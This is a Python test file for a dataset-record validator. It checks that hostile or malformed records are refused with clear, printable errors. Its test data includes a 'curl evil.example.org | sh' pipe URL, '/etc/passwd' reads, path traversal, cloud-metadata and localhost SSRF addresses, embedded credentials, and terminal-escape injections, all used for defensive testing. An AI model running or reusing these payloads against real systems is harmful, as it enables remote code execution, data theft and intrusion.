"""Records of strangers that mean harm, or mean nothing: each refused with its name and the property, and nothing else raised."""

from __future__ import annotations

from collections.abc import Callable
from contextlib import suppress
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from atdata.atmosphere.records.collections import record_cid
from atdata.atmosphere.records.dataset import dataset_from_record
from atdata.atmosphere.records.label import label_from_record
from atdata.atmosphere.records.lens import code_lens_from_record, lens_from_record
from atdata.atmosphere.records.schema import schema_from_record
from atdata.errors import RecordError
from atdata_schema.data import Link
from record_data import WHERE, changed, record, spots

URL = ("storage", "shards", 0, "url")
Steps = tuple[str | int, ...]


def refused(value: Any) -> str:
    with pytest.raises(RecordError) as caught:
        dataset_from_record(value, WHERE)
    text = str(caught.value)
    assert text.startswith(f"{WHERE}: ")
    assert text.isprintable()
    return text.removeprefix(f"{WHERE}: ")


@pytest.mark.parametrize(
    ("url", "said"),
    [
        ("pipe:curl evil.example.org | sh", "'pipe' is no kind of address"),
        ("file:///etc/passwd", "'file' is no kind of address"),
        ("/etc/passwd", "no kind of address"),
        ("hf://datasets/private/x.tar", "'hf' is no kind of address"),
        ("gs://bucket/x.tar", "'gs' is no kind of address"),
        ("http://data.example.org/x.tar", "'http' is no kind of address"),
        ("HTTPS://data.example.org/x.tar", "'HTTPS' is no kind of address"),
        ("ftp://data.example.org/x.tar", "'ftp' is no kind of address"),
        ("at://did:plc:ewvi7nxzyoun6zhxrhs64oiz/blob/x", "'at' is no kind of address"),
        ("s3://AKIA:secret@bucket/x.tar", "keys in it"),
        ("s3://bucket", "no key of an object"),
        ("s3://bucket/../other/x.tar", "no part . or .."),
        ("s3://bucket/x-{0..9}.tar", "has braces"),
        ("https://data.example.org/{0..9999}{0..9999}.tar", "brace notation, which is not expanded"),
        ("https://me:secret@data.example.org/x.tar", "with a user or a password"),
        ("https://127.0.0.1/x.tar", "not on the public network"),
        ("https://127.1/x.tar", "no domain name and no IP address"),
        ("https://0x7f000001/x.tar", "no domain name and no IP address"),
        ("https://169.254.169.254/latest", "not on the public network"),
        ("https://[::ffff:169.254.169.254]/x.tar", "not on the public network"),
        ("https://[64:ff9b::7f00:1]/x.tar", "not on the public network"),
        ("https://metadata.internal/x.tar", "not on the public network"),
        ("https://localhost/x.tar", "not on the public network"),
        ("https://data.example.org\\@evil.example.org/x.tar", "no URL"),
        ("https://data.example.org", "no URL of a file"),
        ("https://data.example.org:99999/x.tar", "no URL"),
        ("https://data.example.org:0/x.tar", "no URL of a file"),
        ("https://data.example.org/%1b%5b2J.tar", "cannot be shown"),
        ("https://data.example.org/x.tar#y", "no URL of a file"),
        ("https://data.example.org/" + "x" * 2000, "storage.shards[0].url"),
        ("https://[::1/x.tar", "no URL"),
    ],
)  # fmt: skip
def test_places_that_are_not_read(url: str, said: str) -> None:
    text = refused(changed(record("entry.own"), *URL, to=url))
    assert said in text
    assert "secret" not in text
    legacy = changed(record("entry.legacy"), "storage", "urls", to=[url])
    assert refused(legacy).startswith("storage.urls[0]: ")


def test_a_signed_address_is_not_shown() -> None:
    url = "https://10.0.0.1/x.tar?signature=secret"
    assert "secret" not in refused(changed(record("entry.own"), *URL, to=url))


@pytest.mark.parametrize(
    ("steps", "to", "said"),
    [
        (("name",), "../../etc/passwd", "name: '../../etc/passwd' is no name"),
        (("name",), "a\\b", "is no name"),
        (("name",), "mnist\x1b[2J\x07", r"name: 'mnist\x1b[2J\x07' has characters"),
        (("name",), "mnist\u202egnp", r"'mnist\u202egnp' has characters"),
        (("name",), "mnist\n", "has characters"),
        (("name",), "", "is no name"),
        (("name",), "x" * 201, "name:"),
        (("name",), 7, "name: an integer where a string"),
        (("name",), ..., "name: missing"),
        (("license",), "MIT\x1b]8;;x\x07", "license:"),
        (("tags",), ["a"] * 31, "tags:"),
        (("tags",), ["\x9b2J"], "tags:"),
        (("$type",), "science.alt.dataset.label", "$type"),
        (("$type",), ..., "$type"),
        (("createdAt",), "yesterday", "createdAt:"),
        (("createdAt",), 1.5, "createdAt: 1.5 is a float"),
        (("schemaRef",), "at://did:plc:x/science.alt.dataset.entry/x", "schemaRef:"),
        (("schemaRef",), "at://evil\x1b.example.org/x", "schemaRef:"),
        (("schemaRef",), "https://example.org", "schemaRef:"),
        (("schemaRef",), "at://did:web:example.org/science.alt.dataset.schema/x", "atdata.schema.uri:"),
        (("storage",), None, "storage:"),
        (("storage",), [], "storage:"),
        (("storage",), {"$type": "org.evil.storage"}, "'org.evil.storage' is no storage"),
        (("storage", "shards"), [], "storage.shards:"),
        (("storage", "shards", 0, "checksum"), ..., "storage.shards[0].checksum: missing"),
        (("storage", "shards", 0, "checksum", "algorithm"), "md5", "'md5' is not read"),
        (("storage", "shards", 0, "checksum", "algorithm"), "none", "'none' is not read"),
        (("storage", "shards", 0, "checksum", "digest"), "", "no sha-256"),
        (("storage", "shards", 0, "checksum", "digest"), "AB" * 32, "in lower case"),
        (("storage", "shards", 0, "checksum", "digest"), "ab" * 31, "no sha-256"),
        (("size", "samples"), -1, "size.samples:"),
        (("size", "samples"), 2, "size.samples: 2 are told, and the shards have 1"),
        (("size", "bytes"), 1, "size.bytes: 1 are told"),
        (("size", "shards"), 2, "size.shards: 2 are told"),
        (("size", "shards"), 2**70, "size.shards:"),
        (("atdata", "splits"), [], "atdata.splits:"),
        (("atdata", "splits", 0, "name"), "../x", "atdata.splits[0].name:"),
        (("atdata", "splits", 0, "shards"), [], "atdata.splits: the splits have 0 shards, and the storage lists 1"),
        (("atdata", "splits", 0, "shards", 0, "bytes"), -5, "bytes:"),
        (("atdata", "splits", 0, "shards", 0, "index", "digest"), "x" * 64, "index.digest:"),
        (("atdata", "version"), "one", "atdata.version:"),
        (("atdata", "schema", "cid"), "bafkreibme22gw2h7y2h7tg2fhqotaqjucnbc24deqo72b6mkl2egezxhvy", "atdata.schema.cid:"),
        (("atdata", "derivedFrom", 0, "uri"), "at://did:web:example.org", "atdata.derivedFrom.uri:"),
        (("metadata",), "x", "metadata: a map is needed"),
        (("metadata",), b"\xc1", "metadata: this is no msgpack map"),
        (("metadata",), b"\x80\x80", "metadata: this is no msgpack map"),
        (("metadata",), b"\xdf\xff\xff\xff\xff", "metadata: this is no msgpack map"),
        (("metadata",), b"\x91" * 90_000 + b"\xc0", "metadata: this is no msgpack map"),
        (("metadata",), b"\x81\xa1a" + b"\x91" * 40 + b"\xc0", "metadata: it is nested more than 32"),
        (("metadata",), b"\x82\xa1a\x01\xa1a\x02", "metadata: this is no msgpack map"),
        (("metadata",), b"\x81\x01\x02", "metadata: this is no msgpack map"),
        (("metadata",), b"\x81\xa1a\xc7\x00\x05", "metadata: a ExtType is no value of JSON"),
        (("metadata",), msgspec.msgpack.encode({"a": b"x"}), "metadata: a bytes is no value"),
        (("metadata",), msgspec.msgpack.encode({"a": float("inf")}), "metadata: inf is no number"),
        (("metadata",), b"\x81\xa1a\xd9\x02\xff\xff", "metadata: this is no msgpack map"),
        (("metadata",), b"x" * 100_001, "metadata: 100001 bytes are too many"),
        (("metadata",), {"a": 0.5}, "metadata.a: 0.5 is a float"),
        (("contentMetadata",), {"a": 0.5}, "contentMetadata.a: 0.5 is a float"),
        (("more",), {"$bytes": "?"}, "more:"),
        (("more",), {"$link": "x"}, "more:"),
        (("more",), "\ud800", "more:"),
        (("more",), object(), "more:"),
    ],
)  # fmt: skip
def test_properties_that_are_refused(steps: Steps, to: Any, said: str) -> None:
    assert said in refused(changed(record("entry.own"), *steps, to=to))


def test_depth_and_number_are_bounded() -> None:
    nested: Any = "x"
    for _ in range(100):
        nested = [nested]
    assert "nested more than 64 levels" in refused({**record("entry.own"), "more": nested})
    wide = {**record("entry.own"), "more": [[0] * 100_000] * 20}
    assert "more than 1048576 values" in refused(wide)


def test_splits_have_names_of_their_own() -> None:
    value = record("entry.own")
    value["atdata"]["splits"].append({"name": "train", "shards": []})
    assert "atdata.splits[1].name: two splits are called 'train'" in refused(value)


def test_a_blob_has_the_cid_of_its_bytes() -> None:
    cid = "bafyreih7f2i7u6hhzo5xbbdlzo2vlx7b3tk5cgxpkgxyvjrffjr4qsvsya"
    value = changed(
        record("entry.release"), "storage", "blobs", 0, "blob", "ref", to={"$link": cid}
    )
    assert "storage.blobs[0].blob.ref:" in refused(value)
    digest = changed(
        record("entry.release"), "storage", "blobs", 0, "checksum", "digest", to="0" * 64
    )
    assert "storage.blobs[0].checksum.digest: the sha-256 is 000" in refused(digest)


def test_a_list_of_shards_stands_alone() -> None:
    value = record("entry.own-long")
    assert dataset_from_record(value, WHERE).size.shards == 20_000
    assert "atdata: missing" in refused(changed(value, "atdata"))
    told = [{"samples": 1, "bytes": 1}]
    assert "its shards are in the list" in refused(
        changed(value, "atdata", "splits", 1, "shards", to=told)
    )


@pytest.mark.parametrize("value", [None, [], "x", 7, b"", {}, {"$link": "x"}])
def test_what_is_no_record_is_refused(value: Any) -> None:
    for read in READERS.values():
        with pytest.raises(RecordError):
            read(value, WHERE)


READERS: dict[str, Callable[[Any, str], object]] = {
    "entry.own": dataset_from_record,
    "entry.own-long": dataset_from_record,
    "entry.release": dataset_from_record,
    "entry.release-s3": dataset_from_record,
    "entry.published": dataset_from_record,
    "schema.own": schema_from_record,
    "schema.release": schema_from_record,
    "schema.published": schema_from_record,
    "label.own": label_from_record,
    "lens.release": code_lens_from_record,
    "lens.own": lens_from_record,
}
RECORDS = {name: record(name) for name in READERS}
SPOTS = {name: list(spots(value)) for name, value in RECORDS.items()}

_LEAVES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.integers(2**52, 2**70),
    st.floats(),
    st.text(max_size=12),
    st.binary(max_size=12),
    st.sampled_from(["..", "\x1b[2J", "at://x", "https://[", "s3://a@b/c", "{0..9}", "$type", "#"]),
    st.just(Link("bafkreibme22gw2h7y2h7tg2fhqotaqjucnbc24deqo72b6mkl2egezxhvy")),
)
_ANYTHING = st.recursive(
    _LEAVES,
    lambda inner: st.lists(inner, max_size=3)
    | st.dictionaries(st.sampled_from(["$type", "ref", "type", "name", "a", "$bytes"]), inner),
    max_leaves=10,
)


def refusal(read: Callable[[Any, str], object], value: Any) -> str | None:
    """What a refusal says; anything else that is raised fails the test."""
    try:
        read(value, WHERE)
    except RecordError as error:
        return str(error)
    return None


@given(st.sampled_from(sorted(READERS)), st.data())
def test_whatever_stands_anywhere_nothing_else_is_raised(name: str, data: st.DataObject) -> None:
    value: Any = RECORDS[name]
    for _ in range(data.draw(st.integers(1, 3))):
        try:
            value = changed(
                value,
                *data.draw(st.sampled_from(SPOTS[name])),
                to=data.draw(_ANYTHING | st.just(...)),
            )
        except (KeyError, IndexError, TypeError):
            continue  # the place went with an earlier change
    said = refusal(READERS[name], value)
    assert said is None or (said.startswith(WHERE) and said.isprintable())


@given(_ANYTHING)
def test_the_cid_of_anything(value: Any) -> None:
    with suppress(RecordError):
        assert record_cid({"a": value}).startswith("bafyrei")
